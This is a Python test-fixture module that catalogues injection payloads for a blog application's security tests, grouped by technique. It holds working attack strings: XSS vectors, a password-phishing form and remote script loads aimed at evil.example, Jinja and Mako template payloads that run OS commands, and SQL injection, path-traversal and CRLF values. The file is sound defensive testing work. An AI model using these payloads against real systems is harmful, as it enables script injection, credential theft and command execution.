"""Injection payloads for the security tests, grouped by the trick each group plays.

Every payload is a plain string with a short, readable id; PAYLOADS lists them all as
(id, payload) pairs, in group order. The payloads are written for this suite: each
aims at one of the ways untrusted text reaches kmblog's HTML and Atom (a reader's
comment, name and web address; an author's title, Markdown body and labels; a search
query). None needs a browser to judge: the tests look for elements, attributes and
addresses that would run script, and for template syntax that was evaluated.

params(*ids) picks some of them for a test's parametrize; REQUEST_VALUES are the
percent-encoded values test_bad_input sends everywhere.

TEMPLATE_MARKERS says, for each template-injection payload, what must be shown (the
text as typed) and what must never be (the result of evaluating it).
"""

from __future__ import annotations

from typing import Any
from urllib.parse import quote

import pytest

# --- <script> elements: case, spacing, nesting, splitting ---------------------------------
SCRIPT_TAGS = [
    ("script-plain", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(2)</SCRIPT>"),
    ("script-mixed-case", "<ScRiPt>alert(3)</sCrIpT>"),
    ("script-space-before-gt", "<script >alert(4)</script >"),
    ("script-slash-attribute", "<script/k>alert(5)</script>"),
    ("script-newline-in-tag", "<script\n>alert(6)</script\n>"),
    ("script-tab-in-tag", "<script\ttype=text/javascript>alert(7)</script>"),
    ("script-src-remote", "<script src=https://evil.example/k.js></script>"),
    ("script-src-protocol-relative", "<script src=//evil.example/k.js></script>"),
    ("script-src-upper", '<SCRIPT SRC="HTTPS://EVIL.EXAMPLE/K.JS"></SCRIPT>'),
    ("script-nested-split", "<scr<script>ipt>alert(8)</scr</script>ipt>"),
    ("script-doubled-brackets", "<<script>script>alert(9)<</script>/script>"),
    ("script-doubled-brackets-alert1", "<<script>script>alert(1)<</script>/script>"),
    ("script-unclosed", "<script>alert(10)"),
    ("script-module", "<script type=module>import('//evil.example/m.js')</script>"),
    ("script-after-textarea", "</textarea><script>alert(11)</script>"),
    ("script-after-title", "</title><script>alert(12)</script>"),
    ("script-after-style", "</style><script>alert(13)</script>"),
    ("script-after-script", "</script><script>alert(14)</script>"),
    ("script-entity-encoded", "&lt;script&gt;alert(15)&lt;/script&gt;"),
    ("script-split-by-nul", "<scr\x00ipt>alert(16)</scr\x00ipt>"),
    (
        "script-xhtml-prefix",
        '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(17)</h:script>',
    ),
    ("script-event-for", "<script for=window event=onload>alert(18)</script>"),
]

# --- Event-handler attributes on many elements --------------------------------------------
EVENT_HANDLERS = [
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-slashes", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-newline", "<img src=x\nonerror=alert(1)>"),
    ("img-onerror-entity-value", "<img src=x onerror=&#97;&#108;ert(1)>"),
    ("img-onload-real-image", '<img src="https://example.org/a.png" onload="alert(1)">'),
    ("body-onload", "<body onload=alert(1)>"),
    ("body-onpageshow", '<body onpageshow="alert(1)">'),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("details-ontoggle-summary", "<details ontoggle=alert(1) open><summary>s</summary></details>"),
    ("video-onerror", "<video src=x onerror=alert(1)></video>"),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>'),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("input-autofocus-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("input-image-onerror", "<input type=image src=x onerror=alert(1)>"),
    ("select-autofocus-onfocus", "<select autofocus onfocus=alert(1)></select>"),
    ("textarea-autofocus-onfocus", "<textarea autofocus onfocus=alert(1)>t</textarea>"),
    ("keygen-autofocus-onfocus", "<keygen autofocus onfocus=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>m</marquee>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("a-onclick-with-http-href", '<a href="https://example.org" onclick="alert(1)">x</a>'),
    ("a-onclick-with-plain-http-href", '<a href="http://ok.example" onclick="alert(1)">x</a>'),
    ("a-onmouseover-mailto", '<a href="mailto:k@example.org" onmouseover=alert(1)>mail</a>'),
    ("b-onmouseover", "<b onmouseover=alert(1)>bold</b>"),
    ("b-onmouseover-quoted", '<b onmouseover="alert(1)">bold</b>'),
    ("em-onclick-upper", "<EM ONCLICK=alert(1)>x</EM>"),
    ("strong-onclick-spaced", "<strong    onclick  =  alert(1)>x</strong>"),
    ("code-onclick", "<code onclick=alert(1)>c</code>"),
    ("blockquote-onfocusin", "<blockquote tabindex=1 autofocus onfocusin=alert(1)>q</blockquote>"),
    ("p-onpointerenter", "<p onpointerenter=alert(1)>p</p>"),
    ("span-onanimationstart", "<span style=animation-name:spin onanimationstart=alert(1)>s</span>"),
    ("table-background-js", '<table background="javascript:alert(1)"><tr><td>t</td></tr></table>'),
]

# --- javascript:, vbscript: and data: addresses, bare and obfuscated ----------------------
SCRIPT_URLS = [
    ("url-js-bare", "javascript:alert(1)"),
    ("url-js-upper", "JAVASCRIPT:alert(1)"),
    ("url-js-title-case", "JavaScript:alert(1)"),
    ("url-js-mixed-case", "JaVaScRiPt:alert(1)"),
    ("url-js-leading-spaces", "   javascript:alert(1)"),
    ("url-js-one-leading-space", " javascript:alert(1)"),
    ("url-js-tab-inside", "java\tscript:alert(1)"),
    ("url-js-newline-inside", "java\nscript:alert(1)"),
    ("url-js-cr-inside", "jav\rascript:alert(1)"),
    ("url-js-leading-control", "\x01javascript:alert(1)"),
    ("url-js-control-inside", "java\x0bscript:alert(1)"),
    ("url-js-delete-inside", "javas\x7fcript:alert(1)"),
    ("url-js-bom-leading", "\ufeffjavascript:alert(1)"),
    ("url-js-comment-newline", "javascript://%0aalert(1)"),
    ("url-vbs-bare", "vbscript:msgbox(1)"),
    ("url-data-html", "data:text/html,<script>alert(1)</script>"),
    ("url-data-base64", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("url-data-svg", "data:image/svg+xml,<svg onload=alert(1)>"),
    ("a-js-plain", '<a href="javascript:alert(1)">x</a>'),
    ("a-js-unquoted", "<a href=javascript:alert(1)>x</a>"),
    ("a-js-single-quoted", "<a href='javascript:alert(1)'>x</a>"),
    ("a-js-mixed-case", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("a-js-leading-space", '<a href=" javascript:alert(1)">x</a>'),
    ("a-js-first-letter-entity", '<a href="&#106;avascript:alert(1)">x</a>'),
    (
        "a-js-decimal-entities",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    (
        "a-js-decimal-no-semicolons",
        '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    ),
    ("a-js-decimal-zero-padded", '<a href="&#0000106&#0000097vascript:alert(1)">x</a>'),
    ("a-js-hex-entities", '<a href="&#x6A;&#x61;&#x76;&#x61;script&#x3A;alert(1)">x</a>'),
    ("a-js-hex-padded-no-semicolons", '<a href="&#x0006A&#x00061vascript&#x003Aalert(1)">x</a>'),
    ("a-js-named-colon", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a-js-tab-entity", '<a href="java&#9;script:alert(1)">x</a>'),
    ("a-js-newline-entity", '<a href="java&#x0A;script:alert(1)">x</a>'),
    ("a-js-named-newline", '<a href="java&NewLine;script:alert(1)">x</a>'),
    ("a-js-named-tab", '<a href="&Tab;javascript:alert(1)">x</a>'),
    ("a-js-leading-space-entity", '<a href="&#32;javascript:alert(1)">x</a>'),
    ("a-js-leading-control-entity", '<a href="&#x01;javascript:alert(1)">x</a>'),
    ("a-js-double-encoded", '<a href="&amp;#106;avascript:alert(1)">x</a>'),
    ("a-vbs", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-vbs-entity-colon", '<a href="VBScript&#58;MsgBox(1)">x</a>'),
    ("a-data-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("a-data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("a-data-mixed-case", '<a href="DaTa:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>'),
    ("a-mailto-javascript", '<a href="mailto:javascript:alert(1)">x</a>'),
    ("img-src-js", '<img src="javascript:alert(1)">'),
    ("img-src-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
]

# --- SVG and MathML -------------------------------------------------------------------------
SVG_AND_MATHML = [
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-onload-slash", "<svg/onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-script-href", '<svg><script href="data:text/javascript,alert(1)"/></svg>'),
    ("svg-a-xlink-href", '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>'),
    ("svg-a-href", '<svg><a href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>'),
    (
        "svg-animate-href",
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text y=9>x</text></a></svg>",
    ),
    ("svg-set-handler", "<svg><set attributeName=onmouseover to=alert(1) /></svg>"),
    (
        "svg-foreignobject-iframe",
        '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe>'
        "</foreignObject></svg>",
    ),
    ("svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=k onload=alert(1)>#k"/></svg>'),
    ("svg-image-onerror", "<svg><image href=x onerror=alert(1) /></svg>"),
    ("svg-style-mutation", '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">'),
    ("math-href", '<math href="javascript:alert(1)">x</math>'),
    ("math-mi-xlink-href", "<math><mi xlink:href=javascript:alert(1)>x</mi></math>"),
    ("math-mtext-xlink", '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>'),
    (
        "math-maction",
        '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>',
    ),
    (
        "math-mglyph-mutation",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>"
        "</mglyph></table></mtext></math>",
    ),
]

# --- CSS: style attributes and <style> ----------------------------------------------------
CSS = [
    ("style-attr-expression", '<p style="width:expression(alert(1))">x</p>'),
    ("style-attr-url-js", '<div style="background:url(javascript:alert(1))">x</div>'),
    ("style-attr-behavior", '<b style="behavior:url(#default#time2)" onbegin=alert(1)>x</b>'),
    ("style-attr-escaped-expression", r'<span style="k:\65 xpression(alert(1))">x</span>'),
    ("style-attr-comment-split", '<i style="k:exp/**/ression(alert(1))">x</i>'),
    ("style-attr-overlay", '<a href="https://example.org" style="position:fixed;inset:0">x</a>'),
    ("style-element-import", "<style>@import 'https://evil.example/k.css';</style>"),
    ("style-element-url-js", '<style>body{background:url("javascript:alert(1)")}</style>'),
    ("style-element-url-js-unquoted", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-element-binding", "<style>*{-moz-binding:url(//evil.example/k.xml#k)}</style>"),
    ("style-element-expression", "<STYLE>p{width:expression(alert(1))}</STYLE>"),
    ("link-stylesheet-js", '<link rel=stylesheet href="javascript:alert(1)">'),
]

# --- Frames, plugins, forms, <base>, <meta> and <link> ----------------------------------
EMBEDDING = [
    ("iframe-src-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-src-js-unquoted-unclosed", "<iframe src=javascript:alert(1)>"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("iframe-onload", "<iframe onload=alert(1)></iframe>"),
    ("iframe-remote-unclosed", "<iframe src=https://evil.example/ width=1 height=1>"),
    ("frameset-frame-js", '<frameset onload=alert(1)><frame src="javascript:alert(1)">'),
    ("object-data-js", '<object data="javascript:alert(1)"></object>'),
    (
        "object-data-html",
        '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    ),
    ("object-param-js", "<object><param name=src value=javascript:alert(1)></object>"),
    ("embed-src-js", '<embed src="javascript:alert(1)">'),
    ("embed-flash", "<embed src=https://evil.example/k.swf type=application/x-shockwave-flash>"),
    ("applet-codebase", '<applet code="K.class" codebase="https://evil.example/"></applet>'),
    ("form-action-js", '<form action="javascript:alert(1)"><input type=submit value=Go></form>'),
    (
        "form-password-phish",
        "<form action=https://evil.example/ method=post><input type=password name=p>"
        "<button>Sign in</button></form>",
    ),
    ("button-formaction-js", '<button formaction="javascript:alert(1)">Go</button>'),
    ("input-formaction-js", "<form><input type=submit formaction=javascript:alert(1)></form>"),
    ("form-id-hijack", "<form id=comment-form action=https://evil.example/></form>"),
    ("base-href-remote", '<base href="https://evil.example/">'),
    ("base-href-js", '<base href="javascript:alert(1)//">'),
    ("meta-refresh-js", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("meta-refresh-data", '<meta http-equiv=refresh content="0; url=data:text/html,alert(1)">'),
    ("meta-set-cookie", '<meta http-equiv="Set-Cookie" content="session=stolen">'),
    ("meta-csp-override", '<meta http-equiv="Content-Security-Policy" content="script-src *">'),
    ("link-import", '<link rel=import href="https://evil.example/k.html">'),
    ("isindex-action", "<isindex action=javascript:alert(1) type=image>"),
    ("portal-remote", "<portal src=https://evil.example/></portal>"),
]

# --- Malformed markup: unclosed tags, tag soup, comments, CDATA --------------------------
MALFORMED = [
    ("unclosed-img-at-end", "<img src=x onerror=alert(1) "),
    ("unclosed-attribute-quote", '<img src="x onerror=alert(1)>'),
    ("comment-abrupt-close", "<!--><script>alert(1)</script>-->"),
    ("comment-bang-close", "<!-- --!><script>alert(1)</script>"),
    ("comment-dash-close", "<!---><img src=x onerror=alert(1)>"),
    ("comment-conditional", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("comment-inside-attribute", '<a title="<!--" href="javascript:alert(1)">x</a> -->'),
    ("cdata-script", "<![CDATA[<script>alert(1)</script>]]>"),
    ("cdata-in-svg", '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>'),
    ("processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
    ("bogus-comment", "<?><script>alert(1)</script>"),
    ("doctype-and-body", "<!DOCTYPE html><html><body onload=alert(1)>"),
    ("end-tag-with-attribute", "</p onclick=alert(1)>x"),
    ("nested-angle-brackets", "<<img src=x onerror=alert(1)//<"),
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("xmp-breakout", "<xmp></xmp><img src=x onerror=alert(1)></xmp>"),
    ("plaintext-swallow", "<plaintext><script>alert(1)</script>"),
    ("template-content", "<template><script>alert(1)</script></template>"),
    ("nul-in-tag-name", "<img\x00 src=x onerror=alert(1)>"),
    ("half-open-tag-then-text", "<a href=https://example.org/ <b>x</b>"),
]

# --- Quotes and backticks that try to leave an attribute ---------------------------------
ATTRIBUTE_BREAKOUTS = [
    ("double-quote-script", '"><script>alert(1)</script>'),
    ("single-quote-img", "'><img src=x onerror=alert(1)>"),
    ("double-quote-autofocus", '" autofocus onfocus="alert(1)'),
    ("single-quote-onmouseover", "' onmouseover='alert(1)"),
    ("both-quotes-img", "\"'><img src=x onerror=alert(1)>"),
    ("backtick-attribute", "<img src=`x`onerror=alert(1)>"),
    ("backtick-breakout", "``><svg onload=alert(1)>"),
    ("quote-entities", "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("quote-double-escaped", "&amp;quot;&gt;&lt;img src=x onerror=alert(1)&gt;"),
    ("textarea-then-quote", '</textarea>"><img src=x onerror=alert(1)>'),
    ("fullwidth-brackets", "\uff02\uff1e\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("a-href-then-handler-no-space", '<a href="https://example.org/"onmouseover="alert(1)">x</a>'),
    (
        "a-http-href-then-handler-no-space",
        '<a href="http://x.example/"onmouseover="alert(1)">x</a>',
    ),
    ("a-href-single-then-handler", "<a href='https://example.org/'onmouseover='alert(1)'>x</a>"),
    ("angle-in-href", '<a href="https://example.org/"><img src=x onerror=alert(1)>">x</a>'),
]

# --- Markdown: links, images, references, autolinks, raw HTML ----------------------------
MARKDOWN = [
    ("md-link-js", "[click](javascript:alert(1))"),
    ("md-link-js-short-text", "[x](javascript:alert(1))"),
    ("md-link-js-upper", "[click](JAVASCRIPT:alert(1))"),
    ("md-link-js-leading-space", "[click]( javascript:alert(1))"),
    ("md-link-js-angle-target", "[click](<javascript:alert(1)>)"),
    ("md-link-js-decimal-entity", "[click](&#106;avascript:alert(1))"),
    ("md-link-js-hex-entities", "[click](&#x6a;avascript&#x3a;alert(1))"),
    ("md-link-js-colon-entity", "[click](javascript&#58;alert(1))"),
    ("md-link-js-tab-entity", "[click](java&#9;script:alert(1))"),
    ("md-link-js-percent-colon", "[click](javascript%3Aalert(1))"),
    ("md-link-vbs", "[click](vbscript:msgbox(1))"),
    ("md-link-data", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-image-js", "![pic](javascript:alert(1))"),
    ("md-image-js-short-alt", "![x](javascript:alert(1))"),
    ("md-image-data-svg", "![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("md-image-title-breakout", '![pic](https://example.org/a.png "t\\" onerror=\\"alert(1)")'),
    ("md-link-title-breakout", '[click](https://example.org "t\\" onclick=\\"alert(1)")'),
    ("md-link-title-single-quotes", "[click](https://example.org 'a' onmouseover=alert(1) 'b')"),
    ("md-reference-js", "[click][1]\n\n[1]: javascript:alert(1)"),
    ("md-reference-entity", '[click][evil]\n\n[evil]: &#106;avascript:alert(1) "t"'),
    ("md-reference-image-js", "![pic][img]\n\n[img]: javascript:alert(1)"),
    ("md-reference-title-breakout", '[x][t]\n\n[t]: https://example.org "a"onmouseover="alert(1)"'),
    ("md-reference-angle-js", "[click][a]\n\n[a]: <javascript:alert(1)>"),
    ("md-autolink-js", "<javascript:alert(1)>"),
    ("md-autolink-vbs", "<vbscript:msgbox(1)>"),
    ("md-autolink-email-js", "<javascript:alert(1)@example.org>"),
    ("md-raw-script-block", "Before\n\n<script>alert(1)</script>\n\nAfter"),
    ("md-raw-div-markdown", '<div markdown="1" onclick="alert(1)">[x](javascript:alert(1))</div>'),
    ("md-raw-inline-iframe", "Some *text* <iframe src=javascript:alert(1)></iframe> here"),
    ("md-html-in-link-text", "[<img src=x onerror=alert(1)>](https://example.org)"),
    ("md-code-span", "`<script>alert(1)</script>`"),
    ("md-fence-breakout", "```\n</code></pre><script>alert(1)</script>\n```"),
    ("md-footnote-js", "Note[^1]\n\n[^1]: [x](javascript:alert(1))"),
    ("md-heading-img", "# Heading <img src=x onerror=alert(1)>"),
    (
        "md-table-cells",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    ),
    ("md-blockquote-svg", "> <svg onload=alert(1)>"),
    ("md-nested-links", "[[x](javascript:alert(1))](https://example.org)"),
    ("md-link-protocol-relative", "[click](//evil.example/)"),
    # A scheme followed by digits only looks like host:port to some URL parsers.
    ("md-link-js-digits-only", "[click](javascript:1)"),
    ("a-js-digits-only", '<a href="JavaScript:0">x</a>'),
]

# --- Template syntax of Jinja and other engines: shown as typed, never evaluated ---------
TEMPLATE_INJECTION = [
    ("tpl-jinja-multiply", "{{7*7}}"),
    ("tpl-jinja-multiply-spaced", "{{ 1337*3 }}"),
    ("tpl-jinja-config", "{{config}}"),
    ("tpl-jinja-config-items", "{{ config.items() }}"),
    ("tpl-jinja-for", "{% for x in range(3) %}x{% endfor %}"),
    ("tpl-jinja-for-distinct", "{% for n in range(4) %}qz{% endfor %}"),
    ("tpl-jinja-set", "{% set y = 6*7 %}{{ y }}"),
    ("tpl-jinja-comment", "{# hidden note #}visible"),
    ("tpl-jinja-globals", "{{ self.__init__.__globals__ }}"),
    ("tpl-jinja-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("tpl-jinja-request-environ", "{{ request.environ }}"),
    ("tpl-jinja-raw-block", "{% raw %}{{7*7}}{% endraw %}"),
    ("tpl-jinja-filter", "{{ 'abc'|upper }}"),
    ("tpl-dollar-braces", "${7*7}"),
    ("tpl-mako-os", "${self.module.cache.util.os.system('id')}"),
    ("tpl-hash-braces", "#{7*7}"),
    ("tpl-erb", "<%= 7*7 %>"),
    ("tpl-angular-constructor", "{{constructor.constructor('alert(1)')()}}"),
    ("tpl-python-format", "{0.__class__.__mro__}"),
    ("tpl-percent-format", "%(SECRET_KEY)s"),
]

# --- http(s) addresses that carry markup: accepted as web addresses, must stay inert ----
HOSTILE_WEB_ADDRESSES = [
    ("http-quote-breakout", 'https://example.org/"onmouseover="alert(1)'),
    ("http-script-in-path", "https://example.org/<script>alert(1)</script>"),
    ("http-single-quote-img", "http://example.org/'><img src=x onerror=alert(1)>"),
    ("http-fragment-svg", 'https://example.org/#"><svg onload=alert(1)>'),
    ("http-userinfo-javascript", "https://javascript:alert(1)@example.org/"),
    ("http-query-javascript", "https://example.org/?next=javascript:alert(1)"),
    ("http-upper-breakout", 'HTTPS://EXAMPLE.ORG/"><script>alert(1)</script>'),
    ("http-space-then-js", "https://example.org/ javascript:alert(1)"),
    ("http-entities", "https://example.org/&quot;&gt;&lt;script&gt;"),
    ("http-crlf-header", "https://example.org/%0d%0aSet-Cookie:k=1"),
    ("http-backslashes", "https:\\\\evil.example\\"),
]

# --- Characters an XML feed cannot carry, around markup -----------------------------------
XML_HOSTILE_CHARACTERS = [
    ("nonchar-fffe", "Odd \ufffe character <b>bold</b>"),
    ("nonchar-ffff", "Odd \uffff character <script>alert(1)</script>"),
    ("form-feed-and-vertical-tab", "Page\x0cbreak\x0bline <i>it</i>"),
    ("nul-between-words", "one\x00two <img src=x onerror=alert(1)>"),
    ("escape-sequence", "\x1b[31mred\x1b[0m <svg onload=alert(1)>"),
]

CATEGORIES: dict[str, list[tuple[str, str]]] = {
    "script tags": SCRIPT_TAGS,
    "event handlers": EVENT_HANDLERS,
    "javascript:/vbscript:/data: addresses": SCRIPT_URLS,
    "SVG and MathML": SVG_AND_MATHML,
    "CSS": CSS,
    "frames, plugins, forms, base, meta, link": EMBEDDING,
    "malformed markup, comments, CDATA": MALFORMED,
    "attribute breakouts": ATTRIBUTE_BREAKOUTS,
    "Markdown": MARKDOWN,
    "template injection": TEMPLATE_INJECTION,
    "hostile http(s) addresses": HOSTILE_WEB_ADDRESSES,
    "characters XML cannot carry": XML_HOSTILE_CHARACTERS,
}

PAYLOADS: list[tuple[str, str]] = [pair for group in CATEGORIES.values() for pair in group]
# Not script, but not http(s) either: a field for a web address refuses it. Kept out of
# PAYLOADS for now: as a label, its label page link (/search/label///evil.example/) loses
# its leading slashes to Werkzeug's merge_slashes and answers 404, a kmblog bug.
NOT_IN_PAYLOADS_YET = [("url-protocol-relative", "//evil.example/")]

BY_ID: dict[str, str] = dict(PAYLOADS + NOT_IN_PAYLOADS_YET)


def params(*ids: str) -> list[Any]:
    """The payloads `ids`, in that order, as pytest parameters named by their ids."""
    return [pytest.param(BY_ID[pid], id=pid) for pid in ids]


# --- What breaks parsers rather than pages: for paths, query strings and form bodies -----
# Not in PAYLOADS: these are already percent-encoded, as a request carries them (invalid
# UTF-8 and lone surrogates can be sent no other way). test_bad_input sends them to every
# route and field and wants no 500.
REQUEST_VALUES: dict[str, str] = {
    "invalid-utf8": "%ff%fe%c3x",
    "lone-surrogate": "a%ed%a0%80b",
    "nul": "a%00b",
    "sql-or": quote("' OR 1=1 --", safe=""),
    "sql-drop": quote('"; DROP TABLE posts; --', safe=""),
    "dotdot": "../../etc/passwd",
    "dotdot-encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "dotdot-double": "%252e%252e%252fetc",
    "crlf": "a%0d%0aSet-Cookie:%20evil=1",
    "long": "L" * 10_000,
    "rtl-override": quote("\u202egpj.exe", safe=""),
    "bad-percent": "%zz%",
    "html": quote(BY_ID["script-plain"], safe=""),
}

# id -> (text that must be shown, text that evaluation would produce and must not be);
# None where evaluating would only make the shown text disappear.
TEMPLATE_MARKERS: dict[str, tuple[str, str | None]] = {
    "tpl-jinja-multiply": ("7*7", "49"),
    "tpl-jinja-multiply-spaced": ("1337*3", "4011"),
    "tpl-jinja-config": ("config", "SECRET_KEY"),
    "tpl-jinja-config-items": ("config.items()", "SECRET_KEY"),
    "tpl-jinja-for": ("range(3)", "xxx"),
    "tpl-jinja-for-distinct": ("range(4)", "qzqz"),
    "tpl-jinja-set": ("6*7", "42"),
    "tpl-jinja-comment": ("hidden note", None),
    "tpl-jinja-globals": ("self.", "builtins"),
    "tpl-jinja-popen": ("popen", "uid="),
    "tpl-jinja-request-environ": ("request.environ", "wsgi."),
    "tpl-jinja-raw-block": ("raw", None),
    "tpl-jinja-filter": ("'abc'|upper", "ABC"),
    "tpl-dollar-braces": ("7*7", "49"),
    "tpl-mako-os": ("self.module", None),
    "tpl-hash-braces": ("7*7", "49"),
    "tpl-erb": ("7*7", "49"),
    "tpl-angular-constructor": ("constructor", None),
    "tpl-python-format": ("{0.", "class '"),
    "tpl-percent-format": ("%(SECRET_KEY)s", "test-secret-key"),
}
